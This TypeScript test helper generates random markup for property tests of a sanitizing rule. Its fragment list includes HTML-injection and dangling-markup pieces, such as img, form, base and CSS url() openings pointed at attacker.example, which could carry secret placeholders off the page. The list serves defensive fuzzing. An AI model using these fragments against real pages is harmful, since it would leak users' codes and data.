/**
 * Templates for property tests of the markup rule (issue 18): pieces the outside
 * reviews' bypasses were made of (tags, quotes, comments, raw-text elements, forms,
 * select, addresses) and placeholders, joined at random.
 */
import fc from 'fast-check';

export const FRAGMENTS = [
  '<%= CODE %>', '<%= URL %>', '<%= USER.username %>', ' <%= CODE %> ', ' <%= URL %> ', ' ', '\n', '<br>',
  '<p>', '</p>', '<a href="', '<a href=\'', '<a href=', '<a ', 'href=', 'ping=', '"', "'", '=', ' ', '>', '/>', '/', '<',
  '<img src="https://attacker.example/?c=', '<img alt=x\'', 'src=', '<b>', '</b>', '<div title="', '<table>', '<tr><td>',
  '<style>', '</style>', '</styles', '<script>', '</script>', '<title>', '</title>', '<textarea>', '</textarea>',
  '<noscript>', '</noscript>', '<xmp>', '</xmp>', '<iframe>', '</iframe>', '<plaintext>', '<template>', '</template>',
  '<svg>', '</svg>', '<math>', '<![CDATA[', ']]>', '<!--', '-->', '--!>', '<!x ', '<? ', '</ ', '</a>', '<a>', '&', '&quot;', 'x',
  'url(https://attacker.example/', ')', '<select>', '<option>', '<form action="', '<base href="', 'https://attacker.example/c/',
  '<button>', '<input value="', '<link rel=stylesheet href="', '&#112;', '<frameset>', '<span>', '</span>', '<td>', '</td>',
];

export const template = fc.array(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 24 }).map((parts) => parts.join(''));

